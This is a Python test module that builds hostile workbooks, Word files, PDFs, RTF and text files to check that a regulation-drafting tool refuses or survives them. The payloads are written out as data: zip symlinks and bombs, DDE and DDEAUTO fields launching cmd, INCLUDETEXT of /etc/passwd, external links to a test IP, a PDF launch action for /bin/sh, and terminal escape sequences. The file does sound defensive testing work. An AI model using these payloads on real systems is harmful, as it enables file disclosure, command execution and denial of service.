"""Hostile workbooks, Word files, PDF and plain texts that others send."""

# ruff: noqa: E501 - one case a line
from __future__ import annotations

import functools
import re
import struct
import zlib
from collections.abc import Callable, Iterator
from io import BytesIO
from pathlib import Path
from zipfile import ZIP_DEFLATED, ZipFile, ZipInfo

from tests.hostile.inputs import SMALL
from tests.hostile.offering import Maker, Offer
from tests.hostile.struck_commands import ROOT, SELF

IMPORT = ("import", "x.xlsx", "--revisi", "2030", "--apply", *SELF)
WORD = ("import", "x.docx", "--revisi", "2030")
APPLY = ("apply", "2030", "x.docx")
FRESH = ("import", "{}", "--baru", "perbup-kiriman/rancangan")
SHEET, BODY = "xl/worksheets/sheet1.xml", "word/document.xml"
Edit = Callable[[bytes], bytes]


@functools.cache
def workbook() -> bytes:
    """Return a workbook as it is sent out."""
    from naskah.load import load
    from naskah.render.xlsx import write_workbook

    small = load(SMALL, "perbup-contoh-7-2030/2030")
    assert small.matriks
    return write_workbook(small, small.matriks.bidang[0])


@functools.cache
def word() -> bytes:
    """Return a Word file of ours."""
    from naskah.lines import document
    from naskah.load import load
    from naskah.render.docx import write_docx

    return write_docx(document(load(SMALL, "perbup-contoh-7-2030/2030")), ROOT / "templates")


def packed(data: bytes, edits: dict[str, Edit], added: dict[str, bytes | str] | None = None) -> bytes:
    target = BytesIO()
    with ZipFile(BytesIO(data)) as source, ZipFile(target, "w", ZIP_DEFLATED) as archive:
        for name in source.namelist():
            archive.writestr(name, edits.get(name, lambda part: part)(source.read(name)))
        for name, part in (added or {}).items():
            archive.writestr(name, part)
    return target.getvalue()


def xlsx(edit: Edit = lambda part: part, added: dict[str, bytes | str] | None = None, part: str = SHEET) -> Maker:
    return lambda place: (place / "x.xlsx").write_bytes(packed(workbook(), {part: edit}, added))


def body(markup: str | bytes) -> Edit:
    """Put *markup* at the end of the text."""
    data = markup if isinstance(markup, bytes) else markup.encode()
    return lambda part: part[: (end := part.rindex(b"<w:sectPr"))] + data + part[end:]


def docx(markup: str | bytes = "", edits: dict[str, Edit] | None = None, added: dict[str, bytes | str] | None = None) -> Maker:
    return lambda place: (place / "x.docx").write_bytes(packed(word(), {BODY: body(markup), **(edits or {})}, added))


def end(markup: str) -> Edit:
    return lambda part: part.replace(b"</sheetData>", markup.encode() + b"</sheetData>")


def related(kind: str, target: str, mode: str = "External") -> Edit:
    address = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
    one = f'<Relationship Id="rX9" Type="{address}/{kind}" Target="{target}" TargetMode="{mode}"/>'
    return lambda part: part.replace(b"</Relationships>", one.encode() + b"</Relationships>")


def number(value: float) -> Maker:
    """Put a number into a cell of the matrix that is filled in."""

    def make(place: Path) -> None:
        from openpyxl import load_workbook

        book = load_workbook(BytesIO(workbook()), rich_text=True)
        book["Matriks"].cell(5, 6).value = value
        book.save(place / "x.xlsx")

    return make


# -- archives ----------------------------------------------------------------------------------------------------------


def _symlink(place: Path) -> None:
    target = BytesIO(workbook())
    with ZipFile(target, "a") as archive:
        info = ZipInfo("xl/worksheets/sheet9.xml")
        info.external_attr = 0o120777 << 16
        archive.writestr(info, "/etc/passwd")
    (place / "x.xlsx").write_bytes(target.getvalue())


def _overlapping(place: Path) -> None:
    """Many entries of the directory that share the bytes of one member."""
    target = BytesIO()
    with ZipFile(target, "w", ZIP_DEFLATED) as archive:
        archive.writestr("xl/a.xml", b"<a>" + b" " * 900_000 + b"</a>")
        first = archive.infolist()[0]
        for number in range(300):
            info = ZipInfo(f"xl/b{number}.xml")
            for name in ("compress_type", "CRC", "compress_size", "file_size", "header_offset", "flag_bits"):
                setattr(info, name, getattr(first, name))
            archive.filelist.append(info)
            archive.NameToInfo[info.filename] = info
        archive._didModify = True
    (place / "x.xlsx").write_bytes(target.getvalue())


def _lying(place: Path) -> None:
    """The directory says that a member is small; it is not."""
    data = bytearray(packed(workbook(), {}, {"xl/besar.xml": b"<a>" + b"b" * 200_000_000 + b"</a>"}))
    at = data.rindex(b"xl/besar.xml") - 46
    struct.pack_into("<I", data, at + 24, 1000)
    (place / "x.xlsx").write_bytes(bytes(data))


def _zip64(place: Path) -> None:
    data = bytearray(workbook())
    at = data.rindex(b"PK\x05\x06")
    data[at:at] = b"PK\x06\x06" + struct.pack("<QHHIIQQQQ", 44, 45, 45, 0, 0, 1 << 40, 1 << 40, 1 << 60, 1 << 60)
    data[-22:] = data[-22:][:8] + b"\xff" * 12 + data[-2:]
    (place / "x.xlsx").write_bytes(bytes(data))


def _nested(place: Path) -> None:
    data = workbook()
    for _ in range(20):
        data = packed(workbook(), {}, {"xl/media/lagi.zip": data})
    (place / "x.xlsx").write_bytes(data)


def archives() -> Iterator[Offer]:
    yield Offer("zip-tautan", _symlink, IMPORT, refused=True)
    yield Offer("zip-tumpang-tindih", _overlapping, IMPORT, refused=True)
    yield Offer("zip-ukuran-bohong", _lying, IMPORT, refused=True)
    yield Offer("zip64-bohong", _zip64, IMPORT, refused=True)
    yield Offer("zip-bersarang", _nested, IMPORT)
    yield Offer("zip-komentar", lambda place: (place / "x.xlsx").write_bytes(workbook()[:-2] + b"\xff\xff" + b"a" * 65_535), IMPORT)
    yield Offer("zip-awalan", lambda place: (place / "x.xlsx").write_bytes(b"MZ" + b"\0" * 5_000 + workbook()), IMPORT)
    yield Offer(
        "ole-bersandi", lambda place: (place / "x.xlsx").write_bytes(b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 5_000), IMPORT, True
    )
    yield Offer("zip-1mb-acak", lambda place: (place / "x.xlsx").write_bytes(b"PK\x03\x04" + bytes(range(256)) * 4096), IMPORT, True)
    yield Offer("xlsx-tautan-luar", xlsx(related("externalLink", "file:///etc/passwd"), part="xl/_rels/workbook.xml.rels"), IMPORT, True)
    yield Offer("xlsx-gambar-luar", xlsx(related("image", "http://192.0.2.1/a"), part="xl/worksheets/_rels/sheet1.xml.rels"), IMPORT, True)
    yield Offer("xlsx-dde", xlsx(lambda part: re.sub(rb"<v>1</v>", b'<f>DDE("cmd";"/c calc";"x")</f><v>1</v>', part, count=1)), IMPORT)
    yield Offer("xlsx-baris-jauh", xlsx(end('<row r="999999999"><c r="A999999999"><v>1</v></c></row>')), IMPORT, True)
    yield Offer("xlsx-kolom-tak-ada", xlsx(end('<row r="900"><c r="XFE900"><v>1</v></c></row>')), IMPORT, True)
    yield Offer("xlsx-rujukan-negatif", xlsx(end('<row r="-3"><c r="A-3"><v>1</v></c></row>')), IMPORT, True)
    yield Offer("xlsx-teks-tak-ada", xlsx(end('<row r="900"><c r="A900" t="s"><v>99999999</v></c></row>')), IMPORT, True)
    yield Offer("xlsx-gaya-tak-ada", xlsx(end('<row r="900"><c r="A900" s="99999"><v>1</v></c></row>')), IMPORT)
    yield Offer("xlsx-angka-400", xlsx(end(f'<row r="900"><c r="A900"><v>{"9" * 400}</v></c></row>')), IMPORT)
    yield Offer("xlsx-angka-1e308", number(1e308), IMPORT, True)
    yield Offer("xlsx-angka-1e-308", number(1e-308), IMPORT, True)
    yield Offer("xlsx-bukan-angka", xlsx(end('<row r="900"><c r="A900"><v>NaN</v></c><c r="B900"><v>inf</v></c></row>')), IMPORT)
    yield Offer(
        "xlsx-tanpa-lembar", xlsx(lambda part: re.sub(rb"<sheets>.*</sheets>", b"<sheets/>", part), part="xl/workbook.xml"), IMPORT, True
    )
    yield Offer(
        "xlsx-nama-lembar-esc",
        xlsx(lambda part: part.replace(b'name="Matriks"', b'name="Ma&#27;[2Jtriks"'), part="xl/workbook.xml"),
        IMPORT,
        True,
    )
    yield Offer(
        "xlsx-sel-1mb", xlsx(end('<row r="900"><c r="A900" t="inlineStr"><is><t>' + "ab " * 330_000 + "</t></is></c></row>")), IMPORT
    )
    cells = "".join(
        f'<row r="{n}">' + "".join(f'<c r="{c}{n}"><v>1</v></c>' for c in "ABCDEFGHIJ") + "</row>" for n in range(5_000, 23_000)
    )
    yield Offer("xlsx-180000-sel", xlsx(end(cells)), IMPORT)
    yield Offer("xlsx-dalam", xlsx(end("<a>" * 5_000 + "</a>" * 5_000)), IMPORT)
    yield Offer(
        "xlsx-penggabungan-tumpuk",
        xlsx(
            lambda p: p.replace(
                b"</worksheet>", b'<mergeCells><mergeCell ref="A1:ZZ400"/><mergeCell ref="A1:ZZ400"/></mergeCells></worksheet>'
            )
        ),
        IMPORT,
        True,
    )


# -- Word --------------------------------------------------------------------------------------------------------------


def field(code: str) -> str:
    return f'<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText>{code}</w:instrText></w:r><w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>hasil</w:t></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>'


def paragraph(inner: str) -> str:
    return f"<w:p>{inner}</w:p>"


RUN = "<w:r><w:t>kata</w:t></w:r>"
STYLES, NOTES = "word/styles.xml", "word/footnotes.xml"
MAIN = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"


def words() -> Iterator[Offer]:
    rels = "word/_rels/document.xml.rels"
    for words_ in (WORD, APPLY):
        kind = words_[0]
        yield Offer(
            f"{kind}-altchunk",
            docx(
                '<w:altChunk r:id="rX9"/>', {rels: related("aFChunk", "/word/lain.htm", "Internal")}, {"word/lain.htm": "<p>Pasal 99</p>"}
            ),
            words_,
            kind == "apply",
        )
        yield Offer(f"{kind}-includetext", docx(field(' INCLUDETEXT "/etc/passwd" ')), words_)
        yield Offer(f"{kind}-includepicture", docx(field(' INCLUDEPICTURE "http://192.0.2.1/a" ')), words_)
        yield Offer(f"{kind}-ddeauto", docx(field(' DDEAUTO c:\\\\windows\\\\cmd.exe "/k calc" ')), words_)
        yield Offer(
            f"{kind}-sel-lebar",
            docx('<w:tbl><w:tr><w:tc><w:tcPr><w:gridSpan w:val="999999999"/></w:tcPr><w:p/></w:tc></w:tr></w:tbl>'),
            words_,
        )
        yield Offer(
            f"{kind}-sel-lebar-banyak",
            docx("<w:tbl>" + '<w:tr><w:tc><w:tcPr><w:gridSpan w:val="60"/></w:tcPr><w:p/></w:tc></w:tr>' * 5_000 + "</w:tbl>"),
            words_,
        )
        yield Offer(
            f"{kind}-sel-negatif", docx('<w:tbl><w:tr><w:tc><w:tcPr><w:gridSpan w:val="-5"/></w:tcPr><w:p/></w:tc></w:tr></w:tbl>'), words_
        )
        yield Offer(f"{kind}-tabel-100-dalam", docx("<w:tbl><w:tr><w:tc>" * 100 + "<w:p/>" + "</w:tc></w:tr></w:tbl>" * 100), words_)
        yield Offer(
            f"{kind}-kendali-5000-dalam", docx("<w:sdt><w:sdtContent>" * 5_000 + "<w:p/>" + "</w:sdtContent></w:sdt>" * 5_000), words_, True
        )
        yield Offer(
            f"{kind}-kendali-120-dalam", docx("<w:sdt><w:sdtContent>" * 120 + paragraph(RUN) + "</w:sdtContent></w:sdt>" * 120), words_
        )
        yield Offer(f"{kind}-tanda-dalam", docx(paragraph('<w:ins w:id="1" w:author="a">' * 120 + RUN + "</w:ins>" * 120)), words_)
        yield Offer(
            f"{kind}-daftar-jauh",
            docx(paragraph('<w:pPr><w:numPr><w:ilvl w:val="99"/><w:numId w:val="999999"/></w:numPr></w:pPr>' + RUN)),
            words_,
        )
        yield Offer(
            f"{kind}-gaya-putar",
            docx(
                paragraph('<w:pPr><w:pStyle w:val="PutarA"/></w:pPr>' + RUN),
                {
                    STYLES: lambda part: part.replace(
                        b"</w:styles>",
                        b'<w:style w:type="paragraph" w:styleId="PutarA"><w:basedOn w:val="PutarB"/></w:style><w:style w:type="paragraph" w:styleId="PutarB"><w:basedOn w:val="PutarA"/></w:style></w:styles>',
                    )
                },
            ),
            words_,
        )
        note = f'<w:footnotes xmlns:w="{MAIN}"><w:footnote w:id="2"><w:p><w:r><w:footnoteReference w:id="2"/></w:r></w:p></w:footnote></w:footnotes>'
        yield Offer(
            f"{kind}-catatan-diri-sendiri",
            docx(
                paragraph('<w:r><w:footnoteReference w:id="2"/></w:r>'),
                {rels: related("footnotes", "catatan9.xml", "Internal")},
                {"word/catatan9.xml": note},
            ),
            words_,
        )
        yield Offer(f"{kind}-catatan-tak-ada", docx(paragraph('<w:r><w:footnoteReference w:id="77"/></w:r>')), words_)
        yield Offer(
            f"{kind}-simbol",
            docx(paragraph('<w:r><w:sym w:font="Wingdings" w:char="F0FC"/><w:sym w:font="x" w:char="ZZZZ"/></w:r>')),
            words_,
        )
        yield Offer(f"{kind}-penanda-100000", docx('<w:bookmarkStart w:id="1" w:name="a"/>' * 100_000), words_)
        yield Offer(f"{kind}-nama-esc", docx(paragraph('<w:ins w:id="1" w:author="a&#x9b;2J&#x202e;b">' + RUN + "</w:ins>")), words_)
        yield Offer(
            f"{kind}-entitas",
            docx(edits={BODY: lambda part: re.sub(rb"<w:document", b'<!DOCTYPE a [<!ENTITY x "99">]><w:document', part, count=1)}),
            words_,
            True,
        )
        yield Offer(f"{kind}-templat-luar", docx(edits={rels: related("attachedTemplate", "\\\\192.0.2.1\\a.dotm")}), words_)
        yield Offer(f"{kind}-gambar-luar", docx(edits={rels: related("image", "file:///etc/passwd")}), words_, True)
        yield Offer(f"{kind}-ole", docx(added={"word/embeddings/a.bin": b"\xd0\xcf\x11\xe0"}), words_)
        yield Offer(f"{kind}-makro", docx(added={"word/vbaProject.bin": b"x"}), words_, True)
        yield Offer(
            f"{kind}-tanpa-isi", docx(edits={BODY: lambda part: f'<w:document xmlns:w="{MAIN}"/>'.encode()}), words_, kind == "apply"
        )
        yield Offer(
            f"{kind}-60000-paragraf",
            docx(b"".join(b"<w:p><w:r><w:t>Pasal %d</w:t></w:r></w:p>" % n for n in range(60_000))),
            words_,
            kind == "apply",
        )
        yield Offer(
            f"{kind}-90000-sel",
            docx("<w:tbl>" + ("<w:tr>" + "<w:tc><w:p><w:r><w:t>1</w:t></w:r></w:p></w:tc>" * 9 + "</w:tr>") * 9_000 + "</w:tbl>"),
            words_,
        )
        yield Offer(
            f"{kind}-satu-alinea-1mb",
            docx(b"<w:p><w:r><w:t>" + b"".join(b"kata%d " % n for n in range(100_000)) + b"</w:t></w:r></w:p>"),
            words_,
        )


# -- PDF and plain text ------------------------------------------------------------------------------------------------


def pdf(content: bytes, pages: int = 1, extra: bytes = b"", box: str = "0 0 612 936", kids: str = "", packed_: bool = False) -> bytes:
    """Return a PDF whose pages all show *content*."""
    data = zlib.compress(content, 9) if packed_ else content
    own = kids or " ".join(f"{10 + n} 0 R" for n in range(pages))
    objects = {
        1: f"<< /Type /Catalog /Pages 2 0 R {extra.decode()} >>".encode(),
        2: f"<< /Type /Pages /Count {pages} /Kids [ {own} ] >>".encode(),
        3: b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
        4: b"<< /Length %d %s >>\nstream\n" % (len(data), b"/Filter /FlateDecode" if packed_ else b"") + data + b"\nendstream",
    }
    for number in range(pages):
        page = f"<< /Type /Page /Parent 2 0 R /MediaBox [ {box} ] /Contents 4 0 R /Resources << /Font << /F1 3 0 R >> >> >>"
        objects[10 + number] = page.encode()
    out, places = b"%PDF-1.7\n", {}
    for number, inner in objects.items():
        places[number] = len(out)
        out += b"%d 0 obj\n" % number + inner + b"\nendobj\n"
    start = len(out)
    for number, place in places.items():
        out += b"xref\n%d 1\n%010d 00000 n \n" % (number, place) if number == 1 else b"%d 1\n%010d 00000 n \n" % (number, place)
    return out + b"trailer << /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (max(objects) + 1, start)


def shown(lines: list[str], size: int = 11) -> bytes:
    return b"BT /F1 %d Tf 72 900 Td " % size + b" ".join(f"({line}) Tj 0 -13 Td".encode() for line in lines) + b" ET"


def file(name: str, data: bytes) -> Maker:
    return lambda place: (place / name).write_bytes(data)


def other_files() -> Iterator[Offer]:
    fresh = tuple(word_.format("x.pdf") for word_ in FRESH)
    page = shown(["PERATURAN BUPATI CONTOH", "NOMOR 1 TAHUN 2030", "TENTANG", "HAL REKAAN", "Pasal 1", "Dalam Peraturan ini"])
    yield Offer("pdf-bom-isi", file("x.pdf", pdf(b"BT /F1 9 Tf (a) Tj ET " * 4_000_000, packed_=True)), fresh, True)
    yield Offer("pdf-banyak-huruf", file("x.pdf", pdf(shown(["kata lain " * 10] * 8_000, 1), packed_=True)), fresh)
    yield Offer("pdf-satu-titik", file("x.pdf", pdf(b"BT /F1 9 Tf 1 0 0 1 72 700 Tm " + b"(a) Tj " * 100_000 + b"ET", packed_=True)), fresh)
    yield Offer("pdf-2000-halaman", file("x.pdf", pdf(page, 2_000)), fresh)
    yield Offer("pdf-5000-halaman", file("x.pdf", pdf(page, 5_000)), fresh, True)
    yield Offer("pdf-pohon-putar", file("x.pdf", pdf(page, 1, kids="2 0 R 10 0 R")), fresh)
    yield Offer(
        "pdf-aksi",
        file("x.pdf", pdf(page, extra=b"/OpenAction << /S /Launch /F (/bin/sh) >> /AA << /O << /S /URI /URI (http://192.0.2.1) >> >>")),
        fresh,
    )
    yield Offer("pdf-kotak-raksasa", file("x.pdf", pdf(page, box="-1e9 -1e9 1e9 1e9")), fresh)
    yield Offer("pdf-kotak-nol", file("x.pdf", pdf(page, box="0 0 0 0")), fresh)
    yield Offer("pdf-kotak-nan", file("x.pdf", pdf(page, box="nan nan inf inf")), fresh)
    yield Offer("pdf-terpotong", file("x.pdf", pdf(page)[:300]), fresh, True)
    yield Offer("pdf-kosong", file("x.pdf", b"%PDF-1.7\n"), fresh, True)
    yield Offer("pdf-1mb-acak", file("x.pdf", b"%PDF-1.7\n" + bytes(range(256)) * 4096), fresh, True)
    yield Offer("pdf-1mb-kurung", file("x.pdf", b"%PDF-1.7\n1 0 obj\n" + b"[" * 1_000_000), fresh, True)
    yield Offer("pdf-tulisan-miring", file("x.pdf", pdf(b"BT /F1 9 Tf 0 1e9 -1e9 0 1e9 1e9 Tm (Pasal 1) Tj ET")), fresh)
    for name, data in {
        "satu-baris-1mb": b"kata " * 200_000,
        "pasal-1mb": b"Pasal 1\n" * 125_000,
        "pasal-naik": b"".join(b"Pasal %d\nisi.\n" % n for n in range(60_000)),
        "angka-1mb": b"1. " * 330_000,
        "kurung-1mb": b"(" * 1_000_000,
        "huruf-1mb": b"a. isi;\n" * 120_000,
        "ayat-1mb": b"Pasal 1\n" + b"(1) isi.\n" * 110_000,
        "bab-1mb": b"BAB I\nJUDUL\n" * 80_000,
        "kapital-1mb": b"PERATURAN BUPATI CONTOH\n" * 40_000,
        "halaman-1mb": b"\f" * 1_000_000,
        "spasi-1mb": b" " * 1_000_000,
        "nol-1mb": b"\0" * 1_000_000,
        "kendali": bytes(range(32)) * 1_000,
        "strip-1mb": b"-\n" * 500_000,
        "tanda-hubung": b"-\n" * 100_000,
        "latin": "PERATURAN \u201cBUPATI\u201d\nPasal 1\n".encode("cp1252"),
        "9mb": b"kata " * 1_800_000,
        "esc": b"PERATURAN BUPATI CONTOH\n\x1b[2J\nPasal 1\n",
        "utf-16": "PERATURAN BUPATI CONTOH\nPasal 1\nisi\n".encode("utf-16"),
        "acak-1mb": zlib.compress(bytes(range(256)) * 10, 0) * 390,
    }.items():
        yield Offer(f"txt-{name}", file("x.txt", data), tuple(word_.format("x.txt") for word_ in FRESH))
    yield Offer("odt-palsu", file("x.odt", b"PK\x03\x04" + b"\0" * 500), tuple(word_.format("x.odt") for word_ in FRESH))
    yield Offer(
        "rtf-sisip",
        file("x.rtf", rb"{\rtf1{\field{\*\fldinst INCLUDETEXT /etc/passwd}{\fldrslt x}} Pasal 1\par}"),
        tuple(word_.format("x.rtf") for word_ in FRESH),
    )
    yield Offer("rtf-kurung", file("x.rtf", rb"{\rtf1" + b"{" * 1_000_000), tuple(word_.format("x.rtf") for word_ in FRESH), True)
    yield Offer("rtf-bohong", file("x.rtf", rb"{\rtf1 \bin2147483647 a}"), tuple(word_.format("x.rtf") for word_ in FRESH))
    yield Offer("bentuk-lain", file("x.exe", b"MZ"), tuple(word_.format("x.exe") for word_ in FRESH), True)
